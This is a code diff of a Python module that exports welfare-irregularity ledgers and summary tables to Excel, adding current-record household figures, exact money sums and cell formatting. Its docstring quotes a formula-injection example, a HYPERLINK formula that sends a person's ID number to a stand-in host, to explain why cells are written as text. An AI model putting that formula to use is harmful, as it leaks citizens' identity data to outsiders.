@@ -15,17 +15,30 @@ reason such as ``=HYPERLINK("http://x/?"&E3,"详情")`` would otherwise be live 
 spreadsheet (and could send a full ID number out). Text that a spreadsheet would read as a
 formula when typed (starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return) is
 also marked quote-prefixed, so that it stays text when the clerk edits the cell. Numbers
-(amounts, scores, counts) stay numbers.
+(amounts, scores, counts) stay numbers; an amount in 元 (涉及金额, 家庭人均月纯收入) is shown with
+two decimals and thousands separators (``MONEY_FORMAT``), never in scientific notation.
+
+家庭人数 and 家庭人均月纯收入 come from the person's current records only (``household_figures``,
+which the 梁平 forms use too): the roster rows covered and active on the as-of day, else the
+建档立卡 household (its number of members, its yearly income per person / 12, rounded half-up
+to the fen). An ended roster row is history, not the family's present.
+
+The 汇总表 counts every case not resolved by data, by review status, and gives two amounts:
+that of the cases still open (未结: 待核查, 核查中, 需入户核查 — the review page's overview) and
+that of the cases confirmed (属实: the money to recover); a case found untrue (不属实) has no
+amount at risk. Amounts are summed in whole fen. A note under the table says so.
 """
 
 from __future__ import annotations
 
 import io
 import re
-from collections.abc import Iterable
+from collections.abc import Iterable, Mapping
 from datetime import date
+from decimal import ROUND_HALF_UP, Decimal
 from typing import Any
 
+import duckdb
 from openpyxl import Workbook
 from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
 from openpyxl.styles import Alignment, Font, PatternFill
@@ -33,8 +46,9 @@ from openpyxl.utils import get_column_letter
 from openpyxl.worksheet.worksheet import Worksheet
 
 from api.masking import mask_id, mask_numbers, mask_phone, mask_typed
-from api.published import STATUS_LABELS, Published
+from api.published import CLOSED, STATUS_LABELS, Published
 from models.case_types import CASE_LABELS, CASE_TYPES
+from models.coverage_forms import poverty_household_sizes
 from resolver.normalize import code_label
 from resolver.xlsx import FORMULA_STARTS
 
@@ -44,8 +58,16 @@ LEDGER_COLUMNS = (
     "未纳入原因", "疑点类型", "风险评分", "涉及金额（元）", "核查状态", "责任人", "整改时限",
     "疑点编号",
 )  # fmt: skip
-SUMMARY_COLUMNS = ("乡镇", *CASE_LABELS.values(), "疑点合计", "涉及金额（元）", "属实", "不属实",
-                   "核查中或需入户核查", "待核查")  # fmt: skip
+SUMMARY_COLUMNS = ("乡镇", *CASE_LABELS.values(), "疑点合计", "属实", "不属实", "核查中或需入户核查",
+                   "待核查", "未结疑点涉及金额（元）", "属实疑点涉及金额（元）")  # fmt: skip
+SUMMARY_NOTE = (
+    "说明（系统生成）：各类疑点数和疑点合计为未因数据变化消除的疑点（含已核实属实、不属实的），"
+    "疑点合计＝属实＋不属实＋核查中或需入户核查＋待核查；未结疑点涉及金额为待核查、核查中、"
+    "需入户核查疑点的涉及金额，与审核页面“疑点汇总”的涉及金额一致；属实疑点涉及金额为核实属实"
+    "疑点的涉及金额（应追回或整改的金额）；核实不属实的疑点不计金额。金额按分精确合计。"
+)
+MONEY_FORMAT = "#,##0.00"  # 元, two decimals and thousands separators: 2,870.70
+FEN = Decimal("0.01")
 HEADER_FILL = PatternFill("solid", fgColor="DDEBF7")
 # Case types about a person outside the rosters: the form's inclusion columns apply.
 COVERAGE_TYPES = tuple(name for name, spec in CASE_TYPES.items() if spec.coverage)
@@ -53,7 +75,8 @@ _SHEET_UNSAFE = re.compile(r"[\[\]:*?/\\']")  # characters a sheet name may not 
 
 
 def ledger_rows(published: Published, case_type: str, township: str | None = None,
-                county: str | None = None) -> list[list]:  # fmt: skip
+                county: str | None = None, households: Mapping[str, int] | None = None,
+                ) -> list[list]:  # fmt: skip
     """The 摸排台账 rows of one case type (optionally one township, or one county of a province
     drop), by township, village, highest risk first.
 
@@ -67,6 +90,10 @@ def ledger_rows(published: Published, case_type: str, township: str | None = Non
         Only this township's cases; every township's when None.
     county : str or None
         Only the cases resting on rows of this county; every county's when None.
+    households : mapping of str to int, optional
+        The size of the 建档立卡 household of each 建档立卡 record id
+        (``models.coverage_forms.poverty_household_sizes``): the 家庭人数 of a person on no
+        current roster row. Without it, such a person's 家庭人数 is blank.
 
     Returns
     -------
@@ -75,7 +102,8 @@ def ledger_rows(published: Published, case_type: str, township: str | None = Non
     """
     cases = _ledger_cases(published, case_type, township, county)
     cases.sort(key=lambda c: (c["township"] or "", c["village"] or "", -(c["risk_score"] or 0)))
-    return [[number, *_ledger_row(published, case)] for number, case in enumerate(cases, 1)]
+    return [[number, *_ledger_row(published, case, households or {})]
+            for number, case in enumerate(cases, 1)]  # fmt: skip
 
 
 def ledger_size(published: Published, case_type: str, township: str | None = None,
@@ -99,6 +127,25 @@ def ledger_size(published: Published, case_type: str, township: str | None = Non
         The number of rows of the ledger.
     """
     return len(_ledger_cases(published, case_type, township, county))
+
+
+def ledger_households(con: duckdb.DuckDBPyConnection) -> dict[str, int]:
+    """The ``households`` of ``ledger_rows``: the size of each 建档立卡 row's household, read
+    from the run's database as the 梁平 forms read it
+    (``models.coverage_forms.poverty_household_sizes``).
+
+    Parameters
+    ----------
+    con : duckdb.DuckDBPyConnection
+        The run's database.
+
+    Returns
+    -------
+    dict of str to int
+        建档立卡 record id -> the number of members of its household; empty without a
+        建档立卡 registry.
+    """
+    return poverty_household_sizes(con)
 
 
 def _ledger_cases(published: Published, case_type: str, township: str | None,
@@ -127,13 +174,20 @@ def open_cases(published: Published, county: str | None = None) -> list[dict]:
             and (county is None or county in case["counties"])]  # fmt: skip
 
 
-def _ledger_row(published: Published, case: dict[str, Any]) -> list:
+def _ledger_row(published: Published, case: dict[str, Any], households: Mapping[str, int]) -> list:
     rows = case["detail"]["rows"]
     first = f"{case['records'][0]['registry']}:{case['records'][0]['record_id']}"
     subject = next((row for row in rows if row["unique_id"] == first), rows[0] if rows else {})
     mine = [row for row in rows if row.get("person_id") == subject.get("person_id")]
+    if not subject.get("person_id"):  # a row linked to no one: only itself is the person's
+        mine = [subject] if subject else []
     assistance = [row for row in mine if row["registry"] == "assistance"]
-    poverty = next((row for row in mine if row["registry"] == "poverty"), {})
+    # the first 建档立卡 row by record id, as the 梁平 forms take it
+    poverty = min((row for row in mine if row["registry"] == "poverty"),
+                  key=lambda row: str(row["record_id"]), default={})  # fmt: skip
+    as_of = _as_of(case)
+    size, income = household_figures(assistance, as_of, households.get(poverty.get("record_id")),
+                                     poverty.get("income_per_capita_year"))  # fmt: skip
     status = published.status(case["case_id"])
     decided = published.history.get(case["case_id"], [])
     assigned = published.assignments.get(case["case_id"]) or {}
@@ -142,11 +196,10 @@ def _ledger_row(published: Published, case: dict[str, Any]) -> list:
         case["township"], case["village"], subject.get("name"),
         _first(row.get("id_number") for row in [subject, *mine]
                if row.get("id_number_status") in ("valid", "upgraded")),
-        _first(row.get("household_size") for row in assistance),
-        code_label("relation", _first(row.get("relation") for row in mine)),
+        size, code_label("relation", _first(row.get("relation") for row in mine)),
         code_label("health", _first(row.get("health") for row in mine)),
-        poverty.get("poverty_cause"), monthly_income(assistance, poverty),
-        programs_on(assistance, _as_of(case)), _first(row.get("phone") for row in mine),
+        poverty.get("poverty_cause"), income,
+        programs_on(assistance, as_of), _first(row.get("phone") for row in mine),
         *inclusion(case["case_type"], status, decided),
         CASE_LABELS[case["case_type"]], round(case["risk_score"] or 0.0, 4),
         case["amount_at_risk"], STATUS_LABELS[status], assigned.get("assignee"),
@@ -158,25 +211,105 @@ def _first(values: Iterable[Any]) -> Any:
     return next((value for value in values if value not in (None, "")), None)
 
 
-def monthly_income(assistance: list[dict], poverty: dict) -> float | None:
-    """家庭人均月纯收入: the first roster row's monthly income, else the 建档立卡 yearly figure / 12.
+def household_figures(
+    roster: Iterable[dict], as_of: date, poverty_size: int | None, income_year: Any
+) -> tuple[int | None, float | None]:
+    """家庭人数 and 家庭人均月纯收入 of a person, from their current records only (the
+    摸排台账 and the 梁平 forms alike): the roster rows covered and active on ``as_of``
+    (``active_on``); without one, the 建档立卡 household. An ended or uncovered row is
+    history: its household and income are not the family's present.
 
     Parameters
     ----------
-    assistance : list of dict
-        The person's roster rows (``income_per_capita``).
-    poverty : dict
-        The person's 建档立卡 row (``income_per_capita_year``), or an empty dict.
+    roster : iterable of dict
+        The person's roster rows (``covered``, ``end_date``, ``household_size``,
+        ``income_per_capita``).
+    as_of : date
+        The day the run judged "active" on.
+    poverty_size : int or None
+        The number of members of the person's 建档立卡 household (None: not in the registry).
+    income_year : float, Decimal or None
+        The 建档立卡 yearly income per person (None: not given).
+
+    Returns
+    -------
+    tuple of (int or None, float or None)
+        家庭人数 and 家庭人均月纯收入 (``monthly_income``), each None when no record gives it.
+
+    Examples
+    --------
+    >>> ended = {"covered": "yes", "end_date": "2024-06-30", "household_size": 4,
+    ...          "income_per_capita": 900.0}
+    >>> household_figures([ended], date(2026, 10, 31), 1, 2400.06)
+    (1, 200.01)
+    >>> household_figures([ended | {"end_date": None}], date(2026, 10, 31), 1, 2400.06)
+    (4, 900.0)
+    """
+    current = [row for row in roster if active_on(row, as_of)]
+    size = _first(row.get("household_size") for row in current)
+    return (poverty_size if size is None else int(size)), monthly_income(current, income_year)
+
+
+def monthly_income(current: Iterable[dict], income_year: Any) -> float | None:
+    """家庭人均月纯收入: the first given roster row's monthly income, else the 建档立卡 yearly
+    figure / 12, rounded half-up to the fen (四舍五入) in decimal arithmetic.
+
+    Parameters
+    ----------
+    current : iterable of dict
+        The person's current roster rows (``income_per_capita``).
+    income_year : float, Decimal or None
+        The 建档立卡 yearly income per person.
 
     Returns
     -------
     float or None
         The monthly income per person, to the fen; None when neither gives one.
+
+    Examples
+    --------
+    >>> [monthly_income([], year) for year in (2400.06, 3600.06, 1200.30)]
+    [200.01, 300.01, 100.03]
+    >>> monthly_income([{"income_per_capita": 2870.7}], 2400.0), monthly_income([], None)
+    (2870.7, None)
     """
-    monthly = _first(row.get("income_per_capita") for row in assistance)
-    if monthly is None and poverty.get("income_per_capita_year") is not None:
-        monthly = poverty["income_per_capita_year"] / 12
-    return round(monthly, 2) if monthly is not None else None
+    monthly = _first(row.get("income_per_capita") for row in current)
+    if monthly is not None:
+        value = _decimal(monthly)
+    elif income_year is not None and income_year != "":
+        value = _decimal(income_year) / 12
+    else:
+        return None
+    return float(value.quantize(FEN, rounding=ROUND_HALF_UP))
+
+
+def _decimal(amount: Any) -> Decimal:
+    """An amount as the decimal it was written as (a float by its shortest repr: 2400.06, not
+    2400.05999…)."""
+    return amount if isinstance(amount, Decimal) else Decimal(str(amount))
+
+
+def to_fen(amount: Any) -> int:
+    """An amount in 元 as whole fen (half-up), to be summed exactly; 0 for None.
+
+    Parameters
+    ----------
+    amount : float, Decimal or None
+        The amount in 元.
+
+    Returns
+    -------
+    int
+        The amount in fen.
+
+    Examples
+    --------
+    >>> to_fen(820.2) + to_fen(7173.44), to_fen(None), to_fen(0.005)
+    (799364, 0, 1)
+    """
+    if amount is None:
+        return 0
+    return int((_decimal(amount) * 100).quantize(Decimal(1), rounding=ROUND_HALF_UP))
 
 
 # The form's 目前享受救助类型, by program code, in the form's order; 无 when none is active.
@@ -263,7 +396,9 @@ def inclusion(case_type: str, status: str, events: list[dict]) -> tuple[str, str
 
 
 def summary_rows(published: Published, county: str | None = None) -> list[list]:
-    """The 汇总表: per township, open cases by type, total, amount at risk, review outcome.
+    """The 汇总表: per township, the cases not resolved by data by type, their total and
+    their review outcome, the amount at risk of those still open (未结, as the overview
+    counts it) and that of those confirmed (属实); a case found untrue (不属实) has none.
 
     Parameters
     ----------
@@ -276,27 +411,44 @@ def summary_rows(published: Published, county: str | None = None) -> list[list]:
     -------
     list of list
         One row per township in ``SUMMARY_COLUMNS`` order, then the 合计 row (none when no
-        case is open).
+        case is open); amounts in 元, summed in whole fen.
+
+    Examples
+    --------
+    >>> def case(case_id, township, amount):
+    ...     return {"case_id": case_id, "case_type": "deceased_paid", "risk_score": 0.5,
+    ...             "amount_at_risk": amount, "township": township, "village": "东村",
+    ...             "person_ids": [], "run_id": "r-1", "resolved_run": None, "records": "[]",
+    ...             "evidence": "[]", "detail": "{}"}
+    >>> published = Published([case("c1", "城关", 820.2), case("c2", "石羊", 7173.44)],
+    ...                       [], [], [], [])
+    >>> [row[-7:] for row in summary_rows(published)]
+    [[1, 0, 0, 0, 1, 820.2, 0.0], [1, 0, 0, 0, 1, 7173.44, 0.0], [2, 0, 0, 0, 2, 7993.64, 0.0]]
     """
     table: dict[str, dict[str, Any]] = {}
     for case in open_cases(published, county):
-        line = table.setdefault(case["township"] or "未知", {"amount": 0.0, "types": {},
-                                                            "statuses": {}})  # fmt: skip
+        line = table.setdefault(case["township"] or "未知",
+                                {"unclosed": 0, "confirmed": 0, "types": {}, "statuses": {}})  # fmt: skip
         line["types"][case["case_type"]] = line["types"].get(case["case_type"], 0) + 1
-        line["amount"] += case["amount_at_risk"] or 0.0
         status = published.status(case["case_id"])
         line["statuses"][status] = line["statuses"].get(status, 0) + 1
+        if status not in CLOSED:  # 未结, as the overview counts it
+            line["unclosed"] += to_fen(case["amount_at_risk"])
+        elif status == "confirmed":
+            line["confirmed"] += to_fen(case["amount_at_risk"])
     rows = []
     for township, line in sorted(table.items()):
         by_status = line["statuses"]
         rows.append([township, *(line["types"].get(kind, 0) for kind in CASE_LABELS),
-                     sum(line["types"].values()), round(line["amount"], 2),
-                     by_status.get("confirmed", 0), by_status.get("dismissed", 0),
+                     sum(line["types"].values()), by_status.get("confirmed", 0),
+                     by_status.get("dismissed", 0),
                      by_status.get("in_review", 0) + by_status.get("field_check", 0),
-                     by_status.get("open", 0)])  # fmt: skip
+                     by_status.get("open", 0), line["unclosed"], line["confirmed"]])  # fmt: skip
     if rows:
         totals = [sum(row[i] for row in rows) for i in range(1, len(SUMMARY_COLUMNS))]
         rows.append(["合计", *totals])
+    for row in rows:  # fen to 元, after the exact sums
+        row[-2:] = [fen / 100 for fen in row[-2:]]
     return rows
 
 
@@ -318,7 +470,7 @@ def _masked_row(row: list) -> list:
 
 def ledger_workbook(
     published: Published, case_type: str, *, township: str | None = None,
-    county: str | None = None, masked: bool,
+    county: str | None = None, masked: bool, households: Mapping[str, int] | None = None,
 ) -> bytes:  # fmt: skip
     """One case type's 摸排台账: a sheet per township (or the one asked for); ID and phone
     numbers masked when ``masked`` (``api.masking``). Text is written as text, never as a formula (``text_cells``).
@@ -335,13 +487,15 @@ def ledger_workbook(
         Only this county's cases (a province drop); every case when None.
     masked : bool
         Whether ID and phone numbers are masked (for roles that may not see them).
+    households : mapping of str to int, optional
+        The size of the 建档立卡 household of each 建档立卡 record id (``ledger_rows``).
 
     Returns
     -------
     bytes
         The XLSX file.
     """
-    rows = ledger_rows(published, case_type, township, county)
+    rows = ledger_rows(published, case_type, township, county, households)
     if masked:
         rows = [_masked_row(row) for row in rows]
     townships = sorted({row[1] or "未知" for row in rows}) or [township or "无疑点"]
@@ -351,7 +505,8 @@ def ledger_workbook(
         sheet_rows = [row for row in rows if (row[1] or "未知") == name]
         numbered = [[i, *row[1:]] for i, row in enumerate(sheet_rows, 1)]
         title = f"{name}{CASE_LABELS[case_type]}摸排台账"
-        _sheet(book, name, title, LEDGER_COLUMNS, numbered)
+        sheet = _sheet(book, name, title, LEDGER_COLUMNS, numbered)
+        money_cells(sheet, LEDGER_MONEY, 3)
     return _bytes(book)
 
 
@@ -373,11 +528,45 @@ def summary_workbook(published: Published, county: str | None = None) -> bytes:
     book = Workbook()
     book.remove(book.active)
     title = f"{county or ''}兜底疑点排查汇总表"
-    _sheet(book, "汇总表", title, SUMMARY_COLUMNS, summary_rows(published, county))
+    sheet = _sheet(book, "汇总表", title, SUMMARY_COLUMNS, summary_rows(published, county))
+    money_cells(sheet, SUMMARY_MONEY, 3)
+    sheet.append(text_cells(sheet, [SUMMARY_NOTE]))
+    row = sheet.max_row
+    sheet.merge_cells(start_row=row, start_column=1, end_row=row, end_column=len(SUMMARY_COLUMNS))
+    sheet.cell(row, 1).alignment = Alignment(wrap_text=True, vertical="top")
+    across = sum(sheet.column_dimensions[get_column_letter(i)].width or 8
+                 for i in range(1, len(SUMMARY_COLUMNS) + 1))  # fmt: skip
+    sheet.row_dimensions[row].height = 16 * (int(2 * len(SUMMARY_NOTE) // across) + 1)
     return _bytes(book)
 
 
-def _sheet(book: Workbook, name: str, title: str, headers: tuple, rows: list[list]) -> None:
+# The amount columns (1-based) of the 摸排台账 and of the 汇总表.
+LEDGER_MONEY = tuple(LEDGER_COLUMNS.index(name) + 1 for name in ("家庭人均月纯收入（元）",
+                                                                 "涉及金额（元）"))  # fmt: skip
+SUMMARY_MONEY = (len(SUMMARY_COLUMNS) - 1, len(SUMMARY_COLUMNS))
+
+
+def money_cells(sheet: Worksheet, columns: Iterable[int], first_row: int) -> None:
+    """Show the amounts (numbers) of these columns from ``first_row`` on in 元 with two
+    decimals and thousands separators (``MONEY_FORMAT``: 2,870.70, never 2870.7 or 1E+11);
+    the values stay numbers, and text (a note under the table) is left as it is.
+
+    Parameters
+    ----------
+    sheet : Worksheet
+        The sheet.
+    columns : iterable of int
+        The amount columns, 1-based.
+    first_row : int
+        The first row of the table's body.
+    """
+    for column in columns:
+        for (cell,) in sheet.iter_rows(min_row=first_row, min_col=column, max_col=column):
+            if isinstance(cell.value, int | float) and not isinstance(cell.value, bool):
+                cell.number_format = MONEY_FORMAT
+
+
+def _sheet(book: Workbook, name: str, title: str, headers: tuple, rows: list[list]) -> Worksheet:
     sheet = book.create_sheet(_SHEET_UNSAFE.sub("", ILLEGAL_CHARACTERS_RE.sub("", name))[:31]
                               or "台账")  # fmt: skip
     sheet.append(text_cells(sheet, [title]))
@@ -393,6 +582,7 @@ def _sheet(book: Workbook, name: str, title: str, headers: tuple, rows: list[lis
     sheet.freeze_panes = "A3"
     for index, header in enumerate(headers, 1):
         sheet.column_dimensions[get_column_letter(index)].width = max(8, min(22, 2 * len(header)))
+    return sheet
 
 
 def chinese_date(day: date) -> str:
